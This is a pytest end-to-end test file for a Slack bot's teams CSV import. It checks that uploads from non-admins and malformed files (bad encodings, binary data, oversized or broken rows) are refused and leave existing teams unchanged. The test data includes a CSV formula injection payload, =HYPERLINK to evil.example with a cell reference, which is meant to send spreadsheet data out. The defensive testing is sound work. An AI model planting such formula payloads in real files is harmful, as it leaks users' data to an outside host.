"""Attacks on the teams import, played from outside by dropping files in a DM with Cadence: a file from someone who
is not an admin, and files that are not the CSV they claim to be. Each is refused in a line saying what to change,
and the teams in force stay as they were."""

from __future__ import annotations

import pytest
from sqlmodel import select

from bot.teams import lines
from emulator import SlackEmulator, Workspace
from storage.models import AuditEntry
from tests.e2e.conftest import ADMIN, ALICE, CHAMPION, DAN, LEADER
from tests.e2e.team_support import TEAMS, TEAMS_CSV, workspace_with_teams
from tests.e2e.test_content_admin import upload
from tests.support.bot import BotUnderTest

REFUSED = ":warning: Nothing was imported."


@pytest.fixture
def workspace() -> Workspace:
    return workspace_with_teams()


def imports(bot: BotUnderTest) -> int:
    with bot.runtime.session() as session:
        return len(session.exec(select(AuditEntry).where(AuditEntry.action == "teams.imported")).all())


@pytest.mark.parametrize("person", [LEADER, CHAMPION, ALICE])
def test_a_teams_file_from_someone_who_is_not_an_admin_is_not_read(
    bot: BotUnderTest, slack: SlackEmulator, person: str
) -> None:
    answer = upload(bot, slack, person, "teams.csv", TEAMS_CSV)

    assert answer.startswith(":warning:") and "Only programme admins" in answer, answer
    assert lines(bot.runtime) == {} and imports(bot) == 0


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "Row 1: the first row must be the header `manager,member`"),
        (b"manager,member\n\n  \n", "no rows after its header"),
        ("manager,member\nU0ALICE,Dän\n".encode("latin-1"), "not UTF-8 text: save it as CSV (UTF-8)"),
        ("manager,member\nU0ALICE,U0DAN\n".encode("utf-16"), "not UTF-8 text"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not UTF-8 text"),
        (b'manager,member\n=HYPERLINK("https://evil.example/?"&A1),U0DAN\n', 'Row 2: `=HYPERLINK("https://evil'),
        (b"manager,member\n@SUM(1+1),U0DAN\n", "Row 2: `@SUM(1+1)` is not a Slack user id for the manager"),
        (b'manager,member\nU0ALICE,"' + b"U" * 200_000 + b'"\n', "Row 2: Cadence cannot read this row as CSV"),
        (b'manager,member\nU0ALICE,"U0DAN\nU0BOB,U0ERIN\n', "is not a Slack user id for the member"),
        (b"manager,member\nU0ALICE,U0\x00DAN\n", "is not a Slack user id for the member"),
        (b"manager,member\n" + b"U0ALICE,U0DAN\n" * 90_000, "larger than 1024 KB"),
    ],
    ids=[
        "empty",
        "header-only",
        "latin-1",
        "utf-16",
        "binary",
        "formula",
        "at-formula",
        "huge-cell",
        "open-quote",
        "nul",
        "huge",
    ],
)
def test_a_file_that_is_not_a_teams_csv_is_refused_saying_what_to_change(
    bot: BotUnderTest, slack: SlackEmulator, content: bytes, said: str
) -> None:
    upload(bot, slack, ADMIN, "teams.csv", TEAMS_CSV)

    answer = upload(bot, slack, ADMIN, "teams-v2.csv", content)

    assert answer.startswith(REFUSED) and said in answer, answer
    assert lines(bot.runtime) == TEAMS and imports(bot) == 1


def test_a_file_saved_by_excel_with_a_bom_or_old_mac_line_endings_imports(
    bot: BotUnderTest, slack: SlackEmulator
) -> None:
    with_bom = b"\xef\xbb\xbf" + TEAMS_CSV.replace(b"\n", b"\r\n")
    old_mac = TEAMS_CSV.replace(b"\n", b"\r")

    for content in (with_bom, old_mac):
        answer = upload(bot, slack, ADMIN, "teams.csv", content)
        assert "Teams imported: 3 managers and 5 members" in answer, answer
    assert lines(bot.runtime) == TEAMS and imports(bot) == 2
    assert lines(bot.runtime)[ALICE] == TEAMS[ALICE] and DAN in TEAMS[ALICE]
